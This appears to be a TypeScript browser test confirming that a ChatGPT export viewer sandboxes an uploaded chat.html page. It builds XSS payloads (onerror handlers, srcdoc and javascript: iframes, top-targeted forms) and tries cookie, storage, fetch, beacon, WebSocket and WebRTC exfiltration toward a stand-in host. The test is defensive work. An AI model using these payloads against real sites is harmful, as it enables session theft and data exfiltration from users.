import assert from 'node:assert/strict';
import { createSocket } from 'node:dgram';
import { once } from 'node:events';
import { after, before, describe, it } from 'node:test';
import type { Browser, Page } from 'playwright-core';
import { createAccount } from '../support/openai/exports/index.ts';
import { startBrowser, WebScene } from './scene.ts';

const ELSEWHERE = 'https://elsewhere.test';
const ACCOUNT = 'chat@example.com';
const PLACE = `/snapshots/${encodeURIComponent(ACCOUNT)}/2026-06-21T190533Z`;

/** Ways out that a script of the export could try; each answers with what came of it. */
const WAYS_OUT: Readonly<Record<string, string>> = {
  'its origin': 'self.origin',
  cookies: 'document.cookie',
  'what the site has stored': 'localStorage.length',
  'databases of the site':
    "await new Promise((done, fail) => { const q = indexedDB.open('x'); q.onsuccess = done; q.onerror = () => fail(q.error) })",
  'the page around it': 'top.document.title',
  'another page of ours': "(await fetch('/')).status",
  'another site': `(await fetch('${ELSEWHERE}/fetch')).status`,
  'a picture': `await new Promise((done, fail) => { const i = new Image(); i.onload = done; i.onerror = () => fail('blocked'); i.src = '${ELSEWHERE}/picture' })`,
  'a socket': `await new Promise((done, fail) => { const s = new WebSocket('wss://elsewhere.test/'); s.onopen = done; s.onerror = () => fail('blocked') })`,
  'a worker':
    "await new Promise((done, fail) => { const w = new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))); w.onmessage = done; w.onerror = () => fail('blocked') })",
  'a new window': `window.open('${ELSEWHERE}/window').closed`,
  'the address bar': `top.location.href = '${ELSEWHERE}/top'`,
  'a script made on the spot': "eval('1')",
};

/** What a hostile conversation could make of a page that shows its text as HTML. */
const hostileText = (port: number) => {
  const call = `new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${port}' }] }).createDataChannel('x')`;
  return [
    `<img src=x onerror="document.title = 'a handler ran'; ${call}">`,
    `<iframe srcdoc="<script>parent.postMessage('a frame ran', '*'); ${call}</script><p>shown</p>"></iframe>`,
    `<iframe src="javascript:parent.postMessage('a frame ran', '*')"></iframe>`,
    `<form action="${ELSEWHERE}/form" target="_top"><button>Send</button></form>`,
    `<a id="link" href="${ELSEWHERE}/link" target="_top">A link</a>`,
    `<link rel="stylesheet" href="${ELSEWHERE}/style"><style>@import "${ELSEWHERE}/import";</style>`,
  ].join('');
};

const chatPage = (port: number) => `<html><head><title>ChatGPT Data Export</title></head><body><div id="root"></div>
<script>
var jsonData = ${JSON.stringify([hostileText(port)]).replaceAll('</', '<\\/')};
window.addEventListener('message', (event) => { document.title = event.data; });
document.getElementById('root').innerHTML = jsonData[0];
navigator.sendBeacon('${ELSEWHERE}/beacon', 'x');
(async () => {
  const results = {};
  ${Object.entries(WAYS_OUT)
    .map(
      ([name, way]) =>
        `try { results[${JSON.stringify(name)}] = String(${way}); } catch (error) { results[${JSON.stringify(name)}] = 'no'; }`,
    )
    .join('\n')}
  const told = document.createElement('pre');
  told.id = 'told';
  told.textContent = JSON.stringify(results);
  document.body.append(told);
})();
</script>
<script>document.title = 'a script broke out'; new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${port}' }] }).createDataChannel('x');</script>
</body></html>`;

describe('The page of the export, in its frame', () => {
  let scene: WebScene;
  let browser: Browser;
  const calls: Buffer[] = [];
  const listener = createSocket('udp4', (message) => calls.push(message));

  before(async () => {
    listener.bind(0, '127.0.0.1');
    await once(listener, 'listening');
    scene = await WebScene.open({ password: 'open sesame' });
    await scene.takeFiles(
      {
        'conversations.json': '[]',
        'user.json': JSON.stringify({ id: 'user-x', email: ACCOUNT }),
        'chat.html': chatPage(listener.address().port),
      },
      '2026-06-21T19:05:33Z',
    );
    await scene.take(createAccount({ seed: 'grace', conversations: 3 }), 'G5', '2026-06-22T08:00:00Z');
    browser = await startBrowser();
  });
  after(async () => {
    await browser?.close();
    listener.close();
    await scene?.[Symbol.asyncDispose]();
  });

  /** Signed in, so that there is something to steal; with what reaches another site. */
  const open = async (path: string): Promise<{ page: Page; reached: string[] }> => {
    const page = await browser.newPage();
    const reached: string[] = [];
    await page.context().route(`${ELSEWHERE}/**`, async (route) => {
      reached.push(route.request().url());
      await route.fulfill({ body: '' });
    });
    page.on('popup', (popup) => reached.push(`a window at ${popup.url()}`));
    await page.goto(`${scene.origin}${path}`);
    await page.getByLabel('Password').fill('open sesame');
    await page.getByRole('button', { name: 'Sign in' }).click();
    await page.waitForURL(`${scene.origin}${path}`);
    return { page, reached };
  };

  it('shows the conversations of an export as OpenAI has laid them out', async () => {
    const { page } = await open('/snapshots/grace%40example.com/2026-06-22T080000Z/chat');
    const frame = page.frameLocator('iframe');
    await frame.locator('.message').first().waitFor();
    assert.equal(await frame.locator('h4').count(), 3);
    await page.context().close();
  });

  it('has no origin of ours, reaches no network and no storage, and leads nobody away', async () => {
    const { page, reached } = await open(`${PLACE}/chat`);
    const frame = page.frameLocator('iframe');
    const results = JSON.parse((await frame.locator('#told').textContent()) ?? '');
    assert.deepEqual(
      results,
      Object.fromEntries(Object.keys(WAYS_OUT).map((name) => [name, name === 'its origin' ? 'null' : 'no'])),
    );
    await frame.locator('#link').click();
    await frame.getByRole('button', { name: 'Send' }).click();
    assert.equal(page.url(), `${scene.origin}${PLACE}/chat`);
    assert.deepEqual(reached, []);
    await page.context().close();
  });

  it('does not run what a conversation smuggles into it, by which it could call elsewhere', async () => {
    const { page } = await open(`${PLACE}/chat`);
    const frame = page.frames().find((one) => one.url().endsWith('/chat.html'));
    await frame?.locator('#told').waitFor();
    await frame?.frameLocator('iframe').first().getByText('shown').waitFor();
    assert.equal(await frame?.title(), 'ChatGPT Data Export');
    assert.deepEqual(calls, []);
    await page.context().close();
  });
});
